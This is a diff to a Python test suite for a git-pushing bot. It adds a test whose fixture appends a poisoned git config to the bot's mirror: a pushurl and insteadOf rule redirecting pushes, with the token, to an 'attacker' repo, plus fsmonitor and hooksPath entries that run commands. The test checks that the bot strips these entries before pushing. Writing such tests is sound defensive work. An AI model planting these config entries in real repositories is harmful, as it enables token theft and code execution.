@@ -89,7 +89,7 @@ def run_attack(tmp_path: Path, redis_url: str, origin: Path, agent: Callable[[Ru
             agent(run)
             sha = await asyncio.wait_for(commit(run, "Fix the typo\n", "mull[bot]", "1+mull[bot]@x"), 60)
             if sha is not None:
-                await push(mirror, sha, BRANCH, None, TOKEN)
+                await push(mirror, str(origin), sha, BRANCH, None, TOKEN)
             left = [str(p) for p in run.run_dir.rglob("*") if p.is_file() and not p.is_symlink()
                     and TOKEN.encode() in p.read_bytes()]
         return sha, left
@@ -289,3 +289,38 @@ def test_device_nodes_are_left_alone(tmp_path: Path, origin: Path, redis_url: st
 
     sha, _ = run_attack(tmp_path, redis_url, origin, agent)
     assert sha and "zero" not in pushed(origin)
+
+
+def test_a_poisoned_mirror_config_is_rewritten_before_the_push(tmp_path: Path, redis_url: str) -> None:
+    """Even a write into Mull's own mirror (which no sandbox sees) cannot send the token elsewhere."""
+    origin, attacker = tmp_path / "origin.git", tmp_path / "attacker.git"
+    for repo in (origin, attacker):
+        subprocess.run(["git", "init", "-q", "--bare", str(repo)], check=True)
+    seed = tmp_path / "seed"
+    subprocess.run(["git", "clone", "-q", str(origin), str(seed)], check=True, capture_output=True)
+    (seed / "a.txt").write_text("one\n")
+    subprocess.run(["git", "-C", str(seed), "add", "a.txt"], check=True)
+    subprocess.run(["git", "-C", str(seed), "-c", "user.name=s", "-c", "user.email=s@s", "commit", "-qm", "seed"],
+                   check=True)
+    subprocess.run(["git", "-C", str(seed), "push", "-q", "origin", "HEAD:refs/heads/main"], check=True)
+    canary = tmp_path / "canary"
+
+    async def scenario() -> None:
+        cache = RepoCache(tmp_path / "data", aioredis.Redis.from_url(redis_url))
+        mirror = await cache.fetch(3, str(origin), token=TOKEN)
+        async with cache.run_tree(3, "3-1", "refs/remotes/origin/main") as run:
+            (run.tree / "b.txt").write_text("two\n")
+            sha = await commit(run, "b\n", "mull[bot]", "1+mull[bot]@x")
+        assert sha is not None
+        with (mirror / "config").open("a") as config:
+            config.write(f'[remote "origin"]\n\tpushurl = {attacker}\n[url "{attacker}"]\n\tinsteadOf = {origin}\n'
+                         f"[core]\n\tfsmonitor = touch {canary}\n\thooksPath = {tmp_path}\n")
+        await push(mirror, str(origin), sha, BRANCH, None, TOKEN)
+        assert "attacker" not in (mirror / "config").read_text()
+
+    asyncio.run(scenario())
+    assert subprocess.run(["git", "--git-dir", str(origin), "rev-parse", "--verify", "-q", f"refs/heads/{BRANCH}"],
+                          capture_output=True).returncode == 0
+    assert subprocess.run(["git", "--git-dir", str(attacker), "for-each-ref"], capture_output=True,
+                          text=True).stdout == ""
+    assert not canary.exists()
